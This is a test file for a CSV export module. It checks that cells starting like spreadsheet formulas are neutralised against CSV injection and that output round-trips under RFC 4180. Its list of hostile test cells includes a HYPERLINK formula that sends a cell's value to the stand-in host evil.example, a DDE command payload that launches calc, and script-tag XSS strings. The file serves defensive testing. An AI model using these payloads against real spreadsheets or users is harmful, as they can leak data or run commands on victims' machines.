import fc from 'fast-check';
import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import { csvText, field, neutralise, type Cell } from './csv';

/** Parses with a real CSV parser (PapaParse), as a reader's tool would: every cell as text. */
function parse(text: string): string[][] {
	const result = Papa.parse<string[]>(text, { skipEmptyLines: true });
	expect(result.errors).toEqual([]);
	return result.data;
}

/** What a cell reads as after the round trip: neutralised text, a number's digits, or empty. */
const expected = (c: Cell): string => (c === null ? '' : typeof c === 'number' ? String(c) : neutralise(c));

const FORMULA_START = ['=', '+', '-', '@', '\t', '\r', '＝', '＋', '－', '＠'];

const HOSTILE: string[] = [
	'=1+1',
	'=HYPERLINK("http://evil.example/?x="&A1,"Click")',
	"+cmd|' /C calc'!A0",
	'-2+3',
	'@SUM(1,2)',
	'\t=1+1',
	'\r=1+1',
	'＝1+1',
	'"quoted" at the start',
	'a "quote" inside',
	'"',
	'""',
	'comma, inside',
	',',
	'line\nbreak',
	'crlf\r\nbreak',
	'trailing newline\n',
	'<script>alert(1)</script>',
	'<img src=x onerror=alert(1)>',
	'‘curly’ “quotes” and → arrows, Київ',
	'  spaces around  ',
	"'already quoted",
	'',
	'a=b is fine',
	'- a list item'
];

describe('neutralise (OWASP CSV injection)', () => {
	it('prefixes a quote to text that a spreadsheet could read as a formula, and only to it', () => {
		for (const c of FORMULA_START) expect(neutralise(`${c}1+1`)).toBe(`'${c}1+1`);
		for (const t of ['1+1', 'a=b', ' =1', "'=1", 'Kursk', '']) expect(neutralise(t)).toBe(t);
	});
	it('writes numbers as numbers, negative ones too', () => {
		expect(field(-3.70379)).toBe('-3.70379');
		expect(field(37.5)).toBe('37.5');
		expect(() => field(Number.NaN)).toThrow();
	});
});

describe('csvText (RFC 4180)', () => {
	it('round-trips hostile cells through PapaParse, with formulas neutralised', () => {
		const header = ['id', 'text', 'number', 'empty'];
		const rows: Cell[][] = HOSTILE.map((t, i) => [`row-${i}`, t, i - 3.5, null]);
		const text = csvText(header, rows);
		expect(parse(text)).toEqual([header, ...rows.map((r) => r.map(expected))]);
	});

	it('quotes only where needed, doubles quotes, ends records with CRLF and starts with a BOM', () => {
		const text = csvText(
			['a', 'b'],
			[
				['x,y', 'say "hi"'],
				['plain', 'two\nlines']
			]
		);
		expect(text).toBe('\uFEFFa,b\r\n"x,y","say ""hi"""\r\nplain,"two\nlines"\r\n');
	});

	it('refuses a row whose length is not the header’s', () => {
		expect(() => csvText(['a', 'b'], [['only one']])).toThrow(/row 1 has 1 cells/);
	});

	it('round-trips any text, and no cell read back starts a formula (property)', () => {
		const cell = fc.oneof(
			fc.string({ unit: 'grapheme', maxLength: 12 }),
			fc.string({
				unit: fc.constantFrom(...FORMULA_START, '"', ',', '\n', '\r', 'a', ' ', "'"),
				maxLength: 8
			}),
			fc.double({ noNaN: true, noDefaultInfinity: true }),
			fc.constant(null)
		);
		fc.assert(
			fc.property(fc.array(fc.array(cell, { minLength: 3, maxLength: 3 }), { maxLength: 6 }), (rows) => {
				// A row of empty cells reads back as an empty line, which a reader skips: give each an id.
				const table: Cell[][] = rows.map((r, i) => [`r${i}`, ...r]);
				const parsed = parse(csvText(['id', 'a', 'b', 'c'], table));
				expect(parsed.slice(1)).toEqual(table.map((r) => r.map(expected)));
				for (const row of parsed.slice(1))
					for (const [i, c] of row.entries())
						if (typeof table[Number(row[0]!.slice(1))]![i] === 'string')
							expect(FORMULA_START.some((f) => c.startsWith(f))).toBe(false);
			}),
			{ numRuns: 200 }
		);
	});
});
